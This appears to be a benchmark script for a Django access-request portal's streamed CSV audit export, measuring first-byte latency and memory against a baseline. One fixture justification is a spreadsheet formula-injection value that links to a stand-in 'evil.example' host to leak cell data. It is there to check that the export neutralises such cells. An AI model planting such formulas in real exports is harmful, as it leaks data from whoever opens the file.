"""Benchmark the auditors' CSV export against the cheapest export of the same rows, in one run.

    .venv/bin/python bench/export_csv.py [--rows N] [--database-url URL] [--keep]

The issue's budget: one million decisions stream with constant memory (the process stays within a few
hundred megabytes) and the first bytes arrive within a second. Speed is measured here, never asserted
in tests, and reported as ratios against a baseline measured in the same run:

1. **Build** a throwaway database (a SQLite file in a temporary directory unless ``--database-url``):
   migrate, then bulk-insert N access requests, N decisions and N ``evaluated`` audit events (a valid
   hash chain, so ``verify_audit`` passes on the fixture), in a child process.
2. **Baseline**, in a fresh child process: ``values_list`` of the same columns (same joins, same order)
   through ``.iterator(chunk_size=2000)`` and ``csv.writer`` into a sink that only counts bytes.
3. **Real**, in another fresh child process: ``GET /decisions/export.csv`` through Django's test
   ``Client`` as an auditor, reading ``response.streaming_content`` chunk by chunk.

Each measurement runs in its own interpreter so that memory freed by the build (or by the other
measurement) cannot hide growth. Peak RSS is the kernel's high-water mark (``VmHWM``, reset through
``/proc/self/clear_refs`` just before the export) cross-checked by a thread polling ``VmRSS``; growth is
that peak minus the RSS just before the export starts.

With ``--database-url`` the benchmark uses that database (it must be one it may fill and write to): if
it already holds decisions they are measured as they are, which reuses a fixture kept with ``--keep``.
"""

import argparse
import csv
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import warnings
from datetime import UTC, datetime, timedelta
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

# The budgets, reported (never asserted) after the table.
FIRST_BYTES_BUDGET_S = 1.0
RSS_GROWTH_BUDGET_MB = 300
CHUNK_SIZE = 2000
BATCH = 5000


# ----------------------------------------------------------------------------------------- measuring


def proc_status_kb(field: str) -> int | None:
    try:
        with open("/proc/self/status") as status:
            for line in status:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


class RssWatch:
    """Peak RSS growth over a block: kernel high-water mark (reset on entry) and a 5 ms VmRSS poller."""

    def __enter__(self):
        try:
            with open("/proc/self/clear_refs", "w") as clear_refs:
                clear_refs.write("5")  # resets VmHWM to the current RSS (Linux ≥ 4.0)
            self.hwm_reset = True
        except OSError:
            self.hwm_reset = False
        self.maxrss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        self.start_kb = proc_status_kb("VmRSS") or 0
        self.polled_kb = self.start_kb
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._poll, daemon=True)
        self._thread.start()
        return self

    def _poll(self):
        while not self._stop.wait(0.005):
            self.polled_kb = max(self.polled_kb, proc_status_kb("VmRSS") or 0)

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join()
        self.polled_kb = max(self.polled_kb, proc_status_kb("VmRSS") or 0)
        if self.hwm_reset:
            peak_kb = max(proc_status_kb("VmHWM") or 0, self.polled_kb)
        else:
            # ru_maxrss is the lifetime peak: meaningful here only because each phase is a fresh process.
            peak_kb = max(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, self.polled_kb)
        self.start_mb = self.start_kb / 1024
        self.peak_mb = peak_kb / 1024
        self.growth_mb = (peak_kb - self.start_kb) / 1024
        return False


class CountingSink:
    """A file for csv.writer that keeps nothing but the number of characters written."""

    def __init__(self):
        self.chars = 0

    def write(self, value):
        self.chars += len(value)


# -------------------------------------------------------------------------------------- child phases


def django_setup():
    sys.path.insert(0, str(ROOT))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "jitportal.settings")
    import django

    django.setup()


def phase_build(rows: int) -> dict:
    """Migrate and fill the database with `rows` requests, decisions and evaluated audit events."""
    django_setup()
    from django.contrib.auth.models import Group, User
    from django.core.management import call_command
    from django.db import transaction

    from decisions.audit import GENESIS_HASH, HEAD_PK, content_hash
    from decisions.models import AuditChainHead, AuditEvent, AuditKind, Decision
    from decisions.policy import bound
    from decisions.scoring import Signals, score
    from requests.models import AccessRequest, Identity, IdentityKind, RequestStatus, Role

    started = time.perf_counter()
    call_command("migrate", verbosity=0)
    existing = Decision.objects.count()
    if existing:
        return {"rows": existing, "built": False, "seconds": time.perf_counter() - started}

    auditor = User.objects.create_user("bench-auditor", password=None)
    auditor.groups.add(Group.objects.get(name="auditors"))
    requesters = [User(username=f"requester-{n:02d}") for n in range(20)]
    User.objects.bulk_create(requesters)
    requesters = list(User.objects.filter(username__startswith="requester-").order_by("id"))
    levels = [("LOW", 24), ("MEDIUM", 8), ("HIGH", 4), ("CRITICAL", 1)]
    roles = Role.objects.bulk_create(
        Role(
            slug=f"bench-role-{n:02d}",
            name=f"BenchRole{n:02d}",
            privilege_level=levels[n % 4][0],
            max_duration_hours=levels[n % 4][1],
            grants_admin=n == 15,
            source="bench",
        )
        for n in range(16)
    )
    now = datetime.now(UTC)
    identities = Identity.objects.bulk_create(
        Identity(
            username=f"bench-identity-{n:02d}",
            kind=IdentityKind.SERVICE if n % 5 == 0 else IdentityKind.HUMAN,
            is_admin=n % 11 == 0,
            last_activity=None if n % 13 == 0 else now - timedelta(days=(n * 7) % 150),
            mfa_enabled=n % 3 != 0,
            source="bench",
        )
        for n in range(40)
    )
    roles = list(Role.objects.filter(source="bench").order_by("id"))
    identities = list(Identity.objects.filter(source="bench").order_by("id"))

    # A few hundred distinct (identity, role, hours) outcomes, scored by the real scorer and policy.
    profiles = []
    for n in range(len(identities) * 4):
        identity, role = identities[n % len(identities)], roles[(n * 7) % len(roles)]
        hours = (1, 2, 4, 8, 12, 24)[n % 6]
        days = None if identity.last_activity is None else (now - identity.last_activity).days
        signals = Signals(
            identity_kind=identity.kind,
            is_admin=identity.is_admin,
            days_inactive=days,
            mfa_enabled=identity.mfa_enabled,
            has_owner=n % 4 != 0,
            credential_age_days=None if identity.kind == IdentityKind.HUMAN else (n * 13) % 200,
            role_privilege=role.privilege_level,
            role_grants_admin=role.grants_admin,
            role_max_hours=role.max_duration_hours,
            requested_hours=hours,
            recent_denials=n % 3,
        )
        result = score(signals)
        policy = bound(signals, result)
        factors = [factor.as_dict() for factor in result.factors]  # shared by every row of the profile
        profiles.append((identity, role, hours, signals.as_dict(), factors, result, policy))

    justifications = [
        "Deploying the quarterly release to production; change ticket CHG-{n} approved by the CAB.",
        '=HYPERLINK("http://evil.example/?leak="&A1, "Click for ticket {n}")',
        "Investigating incident INC-{n}: error rates on the payments API, need read access to the logs.",
        "+1 from my manager, rotating the KMS keys for the data platform (ticket {n}).",
        "Month-end close: reconciling invoices in the billing bucket, request {n}.",
        "-- routine maintenance window {n}, patching the bastion hosts",
        "@oncall handover: restoring a snapshot of the orders database for ticket {n}.",
    ]
    reasoning = (
        "The identity has been active recently and uses MFA, so the main driver is the privilege of the role "
        "itself. The requested duration stays within the role's maximum, there were no recent denials worth "
        "noting, and the justification names a ticket that matches the work described. Access is acceptable "
        "with the controls below; a reviewer should check the ticket if the score is near the band edge."
    )
    start_time = now - timedelta(seconds=30 * rows)
    head_hash, seq = GENESIS_HASH, 0
    Decision._meta.get_field("created_at").auto_now_add = False  # the fixture spreads decisions over time

    for first in range(0, rows, BATCH):
        count = min(BATCH, rows - first)
        with transaction.atomic():
            batch_requests, batch_meta = [], []
            for i in range(first, first + count):
                identity, role, hours, signals, factors, result, policy = profiles[i % len(profiles)]
                submitted = start_time + timedelta(seconds=30 * i, microseconds=(i * 7919) % 1_000_000)
                decided = submitted + timedelta(seconds=2, microseconds=(i * 104729) % 1_000_000)
                use_ai = i % 2 == 0 and not policy.hard_rule
                verdict = policy.verdict
                status = {
                    "APPROVE": RequestStatus.APPROVED,
                    "APPROVE_WITH_CONDITIONS": RequestStatus.NEEDS_REVIEW if i % 3 == 0 else RequestStatus.APPROVED,
                    "DENY": RequestStatus.DENIED,
                }[verdict]
                batch_requests.append(
                    AccessRequest(
                        requester=requesters[i % len(requesters)],
                        identity=identity,
                        role=role,
                        justification=justifications[i % len(justifications)].format(n=100000 + i),
                        duration_hours=hours,
                        status=status,
                        attempts=1,
                        claimed_at=submitted,
                        submitted_at=submitted,
                        decided_at=decided,
                        expires_at=decided + timedelta(hours=hours) if status == RequestStatus.APPROVED else None,
                    )
                )
                batch_meta.append((decided, use_ai, signals, factors, result, policy))
            AccessRequest.objects.bulk_create(batch_requests, batch_size=BATCH)
            decisions = [
                Decision(
                    request_id=access_request.pk,
                    policy_version=result.version,
                    signals=signals,
                    risk_score=result.value,
                    risk_band=policy.band,
                    factors=factors,
                    hard_rule=policy.hard_rule,
                    policy_verdict=policy.verdict,
                    ai_verdict=policy.verdict if use_ai else "",
                    verdict=policy.verdict,
                    engine="ai:gpt-4o-mini" if use_ai else "policy",
                    ai_model="gpt-4o-mini" if use_ai else "",
                    ai_error="" if use_ai else "No OPENAI_API_KEY configured: the policy decided alone.",
                    reasoning=reasoning if use_ai else policy.explanation,
                    risk_drivers=[factor.label for factor in result.factors[:3]] if use_ai else [],
                    recommended_controls=list(policy.conditions) if use_ai else [],
                    conditions=list(policy.conditions),
                    ai_latency_ms=850 + access_request.pk % 900 if use_ai else None,
                    ai_prompt_tokens=612 if use_ai else None,
                    ai_completion_tokens=143 if use_ai else None,
                    evaluation_ms=5 + access_request.pk % 40 + (900 if use_ai else 0),
                    created_at=decided,
                )
                for access_request, (decided, use_ai, signals, factors, result, policy) in zip(
                    batch_requests, batch_meta, strict=True
                )
            ]
            Decision.objects.bulk_create(decisions, batch_size=BATCH)
            events = []
            for decision in decisions:
                seq += 1
                fields = {
                    "seq": seq,
                    "created_at": decision.created_at,
                    "kind": AuditKind.EVALUATED,
                    "actor": "worker",
                    "request_id": decision.request_id,
                    "decision_id": decision.pk,
                    "data": {
                        "verdict": decision.verdict,
                        "risk_score": decision.risk_score,
                        "engine": decision.engine,
                        "policy_version": decision.policy_version,
                        "conditions": decision.conditions,
                    },
                    "prev_hash": head_hash,
                }
                head_hash = content_hash(**fields)
                events.append(AuditEvent(**fields, hash=head_hash))
            AuditEvent.objects.bulk_create(events, batch_size=BATCH)
        if (first + count) % 50_000 == 0 or first + count == rows:
            print(f"  built {first + count:,} / {rows:,} ({time.perf_counter() - started:.0f} s)", file=sys.stderr)
    AuditChainHead.objects.update_or_create(pk=HEAD_PK, defaults={"seq": seq, "last_hash": head_hash})
    return {"rows": rows, "built": True, "seconds": time.perf_counter() - started}


BASELINE_COLUMNS = [
    "pk",
    "request_id",
    "request__submitted_at",
    "created_at",
    "request__requester__username",
    "request__identity__username",
    "request__identity__kind",
    "request__role__slug",
    "request__role__privilege_level",
    "request__duration_hours",
    "request__justification",
    "risk_score",
    "risk_band",
    "factors",
    "policy_verdict",
    "verdict",
    "engine",
    "ai_error",
    "reasoning",
    "risk_drivers",
    "recommended_controls",
    "conditions",
    "policy_version",
    "request__status",
    "request__expires_at",
]


def phase_baseline() -> dict:
    """The cheapest export of the same rows: tuples straight from the cursor into csv.writer."""
    django_setup()
    from decisions.export import COLUMNS
    from decisions.models import Decision

    queryset = Decision.objects.order_by("created_at", "id").values_list(*BASELINE_COLUMNS)
    sink = CountingSink()
    writer = csv.writer(sink)
    rows, first_byte, first_row = 0, None, None
    with RssWatch() as watch:
        started = time.perf_counter()
        writer.writerow(COLUMNS)
        first_byte = time.perf_counter() - started
        for row in queryset.iterator(chunk_size=CHUNK_SIZE):
            writer.writerow(row)
            rows += 1
            if first_row is None:
                first_row = time.perf_counter() - started
        total = time.perf_counter() - started
    return measured(rows, sink.chars, first_byte, first_row, total, watch)


def phase_real() -> dict:
    """The export as an auditor gets it: the view, its middleware and the streamed generator."""
    os.environ.setdefault("DJANGO_ALLOWED_HOSTS", "testserver")
    django_setup()
    from django.conf import settings
    from django.contrib.auth.models import User
    from django.db import connection
    from django.test import Client

    warnings.filterwarnings("ignore", message="No directory at")  # no collectstatic for a benchmark
    client = Client()
    client.force_login(User.objects.get(username="bench-auditor"))
    # Warm up as a running server would be: middleware loaded, view imported, one empty export served.
    for _ in client.get("/decisions/export.csv", {"since": "2999-01-01"}).streaming_content:
        pass
    chunks, size, first_byte, first_row, neutralised = 0, 0, None, None, 0
    with RssWatch() as watch:
        started = time.perf_counter()
        response = client.get("/decisions/export.csv")
        if response.status_code != 200 or not response.streaming:
            raise SystemExit(f"export answered {response.status_code} (streaming={response.streaming})")
        for chunk in response.streaming_content:
            chunks += 1
            size += len(chunk)
            if first_byte is None:
                first_byte = time.perf_counter() - started
            elif first_row is None:
                first_row = time.perf_counter() - started
            neutralised += chunk.count(b"'=")
        response.close()
        total = time.perf_counter() - started
    result = measured(chunks - 1, size, first_byte, first_row, total, watch)  # one chunk per line, header first
    result.update(debug=settings.DEBUG, queries_logged=len(connection.queries_log), neutralised=neutralised)
    return result


def measured(rows, size, first_byte, first_row, total, watch) -> dict:
    return {
        "rows": rows,
        "bytes": size,
        "first_byte_s": first_byte,
        "first_row_s": first_row,
        "total_s": total,
        "rss_start_mb": watch.start_mb,
        "rss_peak_mb": watch.peak_mb,
        "rss_growth_mb": watch.growth_mb,
    }


# -------------------------------------------------------------------------------------------- parent


def run_phase(phase: str, rows: int, env: dict) -> dict:
    """Run one phase in a fresh interpreter; its last line of output is the JSON result."""
    completed = subprocess.run(
        [sys.executable, __file__, "--phase", phase, "--rows", str(rows)],
        env=env,
        stdout=subprocess.PIPE,
        text=True,
        check=False,
    )
    if completed.returncode != 0:
        raise SystemExit(f"phase {phase} failed (exit {completed.returncode})")
    return json.loads(completed.stdout.strip().splitlines()[-1])


def ratio(real, base) -> str:
    if real is None or not base:
        return "–"
    return f"{real / base:.2f}x"


def report(rows: int, baseline: dict, real: dict) -> None:
    def line(name, r):
        rate = r["rows"] / r["total_s"] if r["total_s"] else 0
        return (
            f"{name:<10}{r['rows']:>10,}{r['first_byte_s']:>11.3f}{r['first_row_s'] or 0:>11.3f}"
            f"{r['total_s']:>10.1f}{rate:>11,.0f}{r['bytes'] / 2**20:>9.0f}{r['rss_growth_mb']:>10.1f}"
            f"{r['rss_peak_mb']:>9.0f}"
        )

    print()
    print(f"CSV export, {rows:,} decisions ({os.environ['DATABASE_URL'].split(':', 1)[0]})")
    print(
        f"{'':<10}{'rows':>10}{'1st byte':>11}{'1st row':>11}{'total':>10}{'rows/s':>11}{'MiB out':>9}"
        f"{'RSS +MB':>10}{'peak MB':>9}"
    )
    print(line("baseline", baseline))
    print(line("export", real))
    print(
        f"{'ratio':<10}{'':>10}{'':>11}{ratio(real['first_row_s'], baseline['first_row_s']):>11}"
        f"{ratio(real['total_s'], baseline['total_s']):>10}{'':>11}{'':>9}"
        f"{ratio(real['rss_growth_mb'], baseline['rss_growth_mb']):>10}"
        f"{ratio(real['rss_peak_mb'], baseline['rss_peak_mb']):>9}"
    )
    print()
    print("times in seconds; RSS +MB is the peak growth of the process during the export.")
    print(
        f"export: DEBUG={real['debug']}, queries logged={real['queries_logged']}, "
        f"cells neutralised (=…)={real['neutralised']:,}"
    )
    first_ok = real["first_row_s"] is not None and real["first_row_s"] < FIRST_BYTES_BUDGET_S
    growth_ok = real["rss_growth_mb"] < RSS_GROWTH_BUDGET_MB
    print("Issue's budgets (information, not a test):")
    print(
        f"  first bytes < {FIRST_BYTES_BUDGET_S:g} s: header {real['first_byte_s']:.3f} s, "
        f"first row {real['first_row_s'] or 0:.3f} s -> {'held' if first_ok else 'NOT held'}"
    )
    print(
        f"  RSS growth < {RSS_GROWTH_BUDGET_MB} MB: {real['rss_growth_mb']:.1f} MB "
        f"-> {'held' if growth_ok else 'NOT held'}"
    )
    if real["rows"] != rows:
        print(f"  note: the export wrote {real['rows']:,} rows for {rows:,} decisions")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--rows", type=int, default=200_000, help="decisions to create (default 200000)")
    parser.add_argument("--database-url", help="use this database instead of a temporary SQLite file")
    parser.add_argument("--keep", action="store_true", help="keep the temporary SQLite file and print its URL")
    parser.add_argument("--phase", choices=["build", "baseline", "real"], help=argparse.SUPPRESS)
    args = parser.parse_args()

    if args.phase:
        result = {"build": lambda: phase_build(args.rows), "baseline": phase_baseline, "real": phase_real}[args.phase]()
        print(json.dumps(result))
        return

    tmp = None
    if args.database_url:
        url = args.database_url
    else:
        tmp = Path(tempfile.mkdtemp(prefix="jit-bench-"))
        url = f"sqlite:///{tmp}/bench.sqlite3"
    env = dict(
        os.environ,
        DATABASE_URL=url,
        DJANGO_SECRET_KEY="bench-only-not-a-secret",
        DJANGO_DEBUG="false",
        DJANGO_SECURE_COOKIES="false",
        DJANGO_LOG_LEVEL="WARNING",
        DJANGO_SETTINGS_MODULE="jitportal.settings",
    )
    os.environ["DATABASE_URL"] = url
    try:
        started = time.perf_counter()
        print(f"database {url}: building {args.rows:,} decisions unless it already holds some …", file=sys.stderr)
        built = run_phase("build", args.rows, env)
        print(
            f"fixture: {built['rows']:,} decisions ({'built' if built['built'] else 'reused'} "
            f"in {built['seconds']:.0f} s)",
            file=sys.stderr,
        )
        baseline = run_phase("baseline", built["rows"], env)
        real = run_phase("real", built["rows"], env)
        report(built["rows"], baseline, real)
        print(f"\nwhole run: {time.perf_counter() - started:.0f} s")
    finally:
        if tmp is not None:
            if args.keep:
                print(f"kept: --database-url {url}")
            else:
                shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
